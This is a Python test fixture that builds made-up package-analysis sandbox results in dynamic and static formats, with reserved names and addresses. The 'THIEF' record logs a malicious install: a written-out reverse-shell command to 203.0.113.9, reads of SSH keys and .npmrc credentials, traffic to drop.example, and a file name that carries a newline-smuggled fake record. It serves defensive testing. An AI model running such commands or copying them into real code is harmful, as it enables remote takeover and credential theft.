"""Results as Package Analysis writes them, made up: every name and address is reserved."""

import base64
import json
from typing import Any


def _said(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def phase(**more: Any) -> dict[str, Any]:
    """A phase in which its tools did what they do in every one."""
    return {
        "Status": "completed",
        "Stdout": _said("Successfully installed thing-1.0"),
        "Stderr": "",
        "Files": None,
        "Sockets": None,
        "Commands": [{"Command": ["sleep", "30m"], "Environment": ["PATH=/bin"]}],
        "DNS": None,
        **more,
    }


def dynamic(ecosystem: str = "pypi", name: str = "thing", version: str = "1.0", **phases: Any) -> bytes:
    """A dynamic result."""
    made = {
        "Package": {"Ecosystem": ecosystem, "Name": name, "Version": version},
        "CreatedTimestamp": 1700000000,
        "Analysis": phases or {"install": phase(), "import": phase()},
    }
    return json.dumps(made, separators=(",", ":")).encode()


def file(path: str, does: str) -> dict[str, Any]:
    """A file: `r`, `w`, `d`."""
    return {"Path": path, "Read": "r" in does, "Write": "w" in does, "Delete": "d" in does}


THIEF = dynamic(
    install=phase(
        Files=[file("/root/.npmrc", "r"), file("/usr/lib/python3.10/os.py", "r")],
        Commands=[
            {
                "Command": ["/usr/local/bin/python3", "-m", "pip", "install", "--pre", "thing==1.0"],
                "Environment": [],
            },
            {"Command": ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], "Environment": ["A=b"]},
        ],
    ),
    **{  # type: ignore[arg-type]
        "import": phase(
            Files=[
                file("/root/.ssh/id_rsa", "r"),
                file("/root/.bashrc", "rw"),
                file("/tmp/a,b\nnet.dns x @ y", "w"),
            ],
            Sockets=[
                {"Address": "203.0.113.9", "Port": 443, "Hostnames": ["drop.example"]},
                {"Address": "2001:db8::1", "Port": 80, "Hostnames": None},
                {"Address": "0.0.0.0", "Port": 8080, "Hostnames": None},
                {"Address": "127.0.0.1", "Port": 1, "Hostnames": []},
                {"Address": "", "Port": 0, "Hostnames": []},
            ],
            DNS=[{"Class": "IN", "Queries": [{"Hostname": "Drop.example.", "Types": ["A", "AAAA", "TXT"]}]}],
        )
    },
)
"""A dynamic result in which things happen."""

STATIC = json.dumps({
    "schema_version": "1.0",
    "ecosystem": "npm",
    "name": "thing",
    "version": "2.0.0",
    "created": "2023-05-04T03:02:01.123456789Z",
    "results": {
        "files": [
            {
                "filename": "index.js", "detected_type": "ASCII text", "size": 12, "sha256": "0" * 64,
                "line_lengths": [{"value": 3, "count": 4}],
                "js": {"identifiers": [{"name": "a", "type": "Variable", "entropy": 1.5}], "string_literals": None},
                "urls": ["https://drop.example/x"],
                "ip_addresses": ["203.0.113.9", "9.9.9.9", "not one"],
                "suspicious_identifiers": [{"name": f"_0x{n:x}abc", "rule": "hex"} for n in range(30)],
                "escaped_strings": [{"value": "a", "raw": "\\x61", "levenshtein_dist": 4}] * 8,
            },
            {"filename": "package.json", "js": {"identifiers": None}},
        ]
    },
}).encode()  # fmt: skip
"""A static result."""
